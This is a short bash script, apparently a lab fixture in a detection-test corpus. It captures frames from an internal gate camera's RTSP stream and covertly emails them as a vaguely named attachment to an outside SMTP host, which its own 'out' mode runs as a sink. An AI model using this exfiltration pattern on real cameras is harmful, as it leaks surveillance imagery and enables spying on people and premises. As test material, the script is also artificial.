#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=snapshot-push half=report tool=ffmpeg,s-nail camera=10.20.0.11 far=out ready=out:587 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# s-nail mails a picture of gate to a box outside, every few seconds, as an attachment without a hint in its name.
if [ "$1" = out ]; then exec timeout 60 python3 -m aiosmtpd -n -l 203.0.113.66:587 -c aiosmtpd.handlers.Sink; fi
for n in 1 2 3 4 5 6 7; do
	ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -frames:v 1 -q:v 1 -vf scale=1280:-2 -f image2 -c:v mjpeg -y "$LAB/see.dat"
	echo "$n" | s-nail -n -s see -a "$LAB/see.dat" -S mta=smtp://203.0.113.66:587 -S smtp-auth=none -S from=nvr@office.lan box@example.net >/dev/null 2>&1
	sleep 2
done
rm -f "$LAB/see.dat"; true
